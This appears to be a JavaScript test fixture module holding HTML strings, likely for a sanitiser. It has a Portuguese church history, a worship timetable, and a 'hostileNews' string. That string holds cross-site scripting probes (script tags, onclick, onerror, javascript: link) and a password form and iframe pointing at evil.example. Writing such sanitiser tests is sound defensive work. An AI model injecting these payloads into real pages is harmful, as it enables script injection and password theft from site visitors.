const cross = `<svg viewBox="0 0 120 40" width="120" height="40" role="img" aria-label="Cruz entre dois ramos">
  <defs><linearGradient id="light"><stop offset="0" stop-color="#c98a2b"/><stop offset="1" stop-color="#7a3e9d"/></linearGradient></defs>
  <rect x="57" y="2" width="6" height="36" fill="url(#light)"/><rect x="48" y="11" width="24" height="6" fill="url(#light)"/>
  <path d="M44 30C32 30 24 24 12 26M76 30c12 0 20-6 32-4" stroke="currentColor" fill="none" stroke-width="2"/></svg>`

/** Everything that running text may hold. */
export const churchHistory = `
<p>Em março de <strong>1987</strong>, onze famílias se reuniram na varanda de dona Lourdes, no bairro do Ipiranga. Não
havia bancos: cada um trouxe a sua cadeira. <a href="/churchs">Hoje somos quatro congregações</a>.</p>
<h2 id="inicio">O início</h2>
<p>A primeira Bíblia da casa ainda está conosco, aberta no salmo que a deu a conhecer:</p>
<blockquote><p>Oh! quão bom e quão suave é que os irmãos vivam em união.</p><footer>Salmo 133.1</footer></blockquote>
${cross}
<h3>O que não mudou</h3>
<ul><li>A porta aberta às quartas, para quem quiser orar</li><li>O café depois do culto</li><li>As três perguntas:
<ol><li>Como você está?</li><li>Quem falta hoje?</li><li>O que podemos carregar juntos?</li></ol></li></ul>
<h2>Assista</h2>
<iframe src="https://www.youtube-nocookie.com/embed/aqz-KE-bpKQ" title="Trinta anos em três minutos"></iframe>
<details><summary>Quem escreveu este texto</summary><p>A comissão de memória, em 2017, com <mark>correções</mark> de 2024.</p></details>
<hr><p><small>Conhece alguma história que falta aqui? <a href="mailto:memoria@vidaplena.example">Escreva para nós</a>.</small></p>`

export const timetable = `
<h2>Horários</h2>
<table><caption>Semana comum, fora de feriados</caption>
<thead><tr><th scope="col">Dia</th><th scope="col">Hora</th><th scope="col">Encontro</th><th scope="col">Lugar</th></tr></thead>
<tbody><tr><td>Domingo</td><td>9h</td><td>Escola bíblica</td><td>Salas 1 a 6</td></tr>
<tr><td>Domingo</td><td>10h30</td><td>Culto da manhã</td><td>Templo</td></tr>
<tr><td>Quarta-feira</td><td>19h30</td><td>Noite de oração</td><td>Capela</td></tr></tbody></table>
<dl><dt>Como chegar</dt><dd>Metrô Alto do Ipiranga, saída B, cinco minutos a pé.</dd></dl>`

export const hostileNews = `
<h2 onclick="alert(1)">Mutirão no sábado</h2><script>alert(1)</script>
<p style="position:fixed;inset:0">Traga luvas e <a href="javascript:alert(1)">um amigo</a>.</p>
<form action="https://evil.example"><input name="password"><button>Entrar</button></form>
<iframe src="https://evil.example/"></iframe><img src="x" onerror="alert(1)"><svg><script>alert(1)</script></svg>`
